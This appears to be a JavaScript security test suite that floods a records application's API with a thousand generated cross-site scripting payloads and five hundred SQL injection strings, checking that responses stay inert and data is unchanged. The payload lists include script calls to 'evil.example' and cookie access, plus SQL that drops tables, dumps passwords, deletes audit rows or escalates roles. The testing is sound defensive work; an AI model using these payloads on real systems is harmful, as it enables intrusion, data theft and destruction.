// Texts that would be more than text elsewhere.  A thousand scripts, put into
// every text field of what may be written and into names, reasons, searches
// and paths, come back as the same text in JSON, or are refused in a
// sentence; five hundred pieces of SQL find nothing and break nothing.
import { check, login, password, roles, send } from './client.mjs';

const officer = await login(roles.officer, password);
const system = await login(roles.system, password);

// --- made, not collected -----------------------------------------------------------
function* pairs(as, bs) {
	for (const a of as)
		for (const b of bs)
			yield [a, b];
}
const calls = ['alert(1)', 'fetch(`//evil.example`)', 'eval(name)',
	'document.cookie', 'top.location=1', 'import(`//e`)', 'x`1`',
	'new Function`a`'];
const shells = [
	(c) => `<script>${c}</script>`, (c) => `<ScRiPt src=//e>${c}</sCrIpT>`,
	(c) => `"><script>${c}</script>`, (c) => `'><svg onload=${c}>`,
	(c) => `<img src=x onerror=${c}>`, (c) => `<body onload="${c}">`,
	(c) => `javascript:${c}`, (c) => `data:text/html,<script>${c}</script>`,
	(c) => `</title><script>${c}</script>`, (c) => `</textarea><svg/onload=${c}>`,
	(c) => `<iframe srcdoc="<script>${c}</script>">`,
	(c) => `<a href="javascript:${c}">红花岗</a>`,
	(c) => `<details open ontoggle=${c}>`, (c) => `<math><mi//xlink:href="${c}">`,
	(c) => `<style>@import '${c}'</style>`, (c) => `<link rel=x href="${c}">`,
	(c) => `<object data="${c}">`, (c) => `<form action="${c}"><button>`,
	(c) => `<base href="${c}">`, (c) => `<meta http-equiv=refresh content="0;${c}">`,
	(c) => `\${${c}}`, (c) => `{{${c}}}`, (c) => `<%= ${c} %>`,
	(c) => `';${c};//`, (c) => `";${c};//`, (c) => `\\";${c};//`,
	(c) => `<!--${c}-->`, (c) => `]]><script>${c}</script>`,
	(c) => `<x/onclick=${c}>`, (c) => `<video><source onerror=${c}>`,
	(c) => `<svg><animate onbegin=${c}>`, (c) => `<input autofocus onfocus=${c}>`,
];
const wraps = [(s) => s, (s) => `值班${s}员`, (s) => encodeURIComponent(s),
	(s) => s.replaceAll('<', '&lt;'), (s) => s.replaceAll('<', '＜')];
const scripts = [...new Set([...pairs([...pairs(shells, calls)], wraps)].map(
	([[shell, c], wrap]) => wrap(shell(c))))].slice(0, 1000);
check(scripts.length === 1000, 'a thousand scripts', scripts.length);

// --- into every text field -------------------------------------------------------------
const loud = []; // answers that a browser might take for a page
function inert(r, what) {
	if (!(r.headers['content-type'] ?? '').startsWith('application/json') ||
	    r.headers['x-content-type-options'] !== 'nosniff')
		loud.push(`${what}: ${r.status} ${r.headers['content-type']}`);
	try {
		JSON.parse(r.text);
	} catch {
		loud.push(`${what}: ${r.status} is no JSON`);
	}
	if (r.status >= 500)
		loud.push(`${what}: ${r.status} ${r.text}`);
	return r;
}
const changed = [];
let next = 0, stored = 0, refused = 0, fields = 0;
const script = () => scripts[next++ % scripts.length];
const kinds = (await send('GET', '/api/kinds', { headers: officer })).json().kinds
	.filter((k) => k.name === k.base && k.stream !== 'roster');
// A record of each kind, incomplete where that is allowed: what counts is the
// field under test.
async function into(kind, field, text, set) {
	const r = inert(await send('POST', `/api/records/${kind}`, { headers: officer,
		body: JSON.stringify({ set: { ...set, [field.name]: text },
			incomplete: true }) }), `${kind}.${field.name}`);
	if (r.status !== 201) {
		refused++;
		return r;
	}
	const got = inert(await send('GET', `/api/records/${kind}/${r.json().id}`,
		{ headers: officer }), 'read').json().values[field.name];
	if (got !== text.trim())
		changed.push(`${kind}.${field.name}: ${text} became ${got}`);
	stored++;
	return r;
}
const rich = { resource: { name: '甲', rkind: 'R01', level: '县级', persons: '1' } };
for (const k of kinds) {
	const kind = (await send('GET', `/api/kinds/${k.name}`,
		{ headers: officer })).json();
	for (const f of kind.fields) {
		if (f.derived || f.elem !== 'one' || f.type !== 'text')
			continue;
		fields++;
		await into(k.name, f, script(), rich[k.name] ?? {});
	}
}
check(fields >= 100, `${fields} text fields of ${kinds.length} kinds were tried`);
// The rest into those that take any text.
while (next < scripts.length)
	await into('resource', { name: 'remark' }, script(), rich.resource);
check(stored >= 600, `${stored} scripts were stored, ${refused} records refused`);
check(changed.length === 0, 'each comes back as the text it was',
	changed.slice(0, 5).join(' | '));
for (const s of scripts.slice(0, 100)) {
	const e = encodeURIComponent(s);

	for (const path of [`/api/find?q=${e}`, `/api/records/${e}`,
		`/api/records/resource?name=${e}`, `/api/records/resource?_sort=${e}`,
		`/api/kinds/${e}`, `/api/tally/resource?by=${e}`, `/api/${e}`])
		inert(await send('GET', path, { headers: officer }), path);
	inert(await send('POST', '/api/login', { body: JSON.stringify(
		{ login: s, password: 1 }) }), 'login');
	inert(await send('POST', '/api/users', { headers: system, body:
		JSON.stringify({ login: s, name: s, password: s }) }), 'users');
}
check(loud.length === 0, 'no answer could be taken for a page',
	loud.slice(0, 5).join(' | '));

// --- SQL ------------------------------------------------------------------------------------
const quotes = ["'", '"', '`', ']', '', "')", '")', "'))", '%27', '\\\''];
const tails = [' OR 1=1 --', ' OR 1=1 /*', '; DROP TABLE _record; --',
	' UNION SELECT password FROM user --', ' AND sleep(9) --', '; VACUUM; --',
	" OR name LIKE '%", ' ORDER BY 99 --', '; ATTACH \'/tmp/x\' AS x; --',
	' AND randomblob(900000000) --', '; PRAGMA writable_schema=1; --',
	' GLOB \'*\' --', ' || (SELECT hex(secret) FROM totp) --',
	'; DELETE FROM audit; --', ' COLLATE nocase --', ' NOT NULL --',
	' IN (SELECT 1) --', ' LIMIT -1 --', ' EXCEPT SELECT 1 --', ' IS NOT 0 --',
	'; UPDATE user SET role=\'system\'; --', ' MATCH \'a\' --',
	' BETWEEN 0 AND 9e999 --', '*9e999 --', ' RETURNING * --'];
const corpus = [...pairs(['x', '0'], [...pairs(quotes, tails)])].map(
	([v, [q, t]]) => `${v}${q}${t}`).slice(0, 500);
check(corpus.length === 500, 'five hundred pieces of SQL', corpus.length);
const all = (await send('GET', '/api/station', { headers: officer })).json();
const broken = [], leaked = [];
for (const [i, s] of corpus.entries()) {
	const e = encodeURIComponent(s);
	// Each in a filter, a sort and a search, and in one of the other places.
	const others = [
		`/api/records/resource?${e}=1`, `/api/records/resource?owner=${e}`,
		`/api/records/resource?_after=${e}`,
		`/api/records/${e}`, `/api/records/resource/${e}`,
		`/api/box?west=0&south=0&east=1&north=1&kind=${e}`,
		`/api/tally/resource?by=${e}`, `/api/changesets/${e}`,
		`/api/quarantine?_after=${e}`, `/api/blobs/${e}`];
	for (const path of [`/api/records/resource?name=${e}`,
		`/api/records/resource?_sort=${e}`, `/api/find?q=${e}`,
		others[i % others.length]]) {
		const r = await send('GET', path, { headers: officer });
		if (r.status >= 500)
			broken.push(`${path}: ${r.status} ${r.text.slice(0, 100)}`);
		if (/scrypt|syntax error|no such (table|column)|unrecognized token/
			.test(r.text))
			leaked.push(`${path}: ${r.text.slice(0, 200)}`);
		if (path.includes('?name=') && r.json().records?.length > 0)
			leaked.push(`${path} found something`);
	}
}
check(broken.length === 0, 'none of it breaks anything', broken.slice(0, 5).join(' | '));
check(leaked.length === 0, 'nor finds what it should not, nor reaches SQL',
	leaked.slice(0, 5).join(' | '));
const now = (await send('GET', '/api/station', { headers: officer })).json();
check(now.records === all.records && now.changesets === all.changesets,
	'and all is as it was');
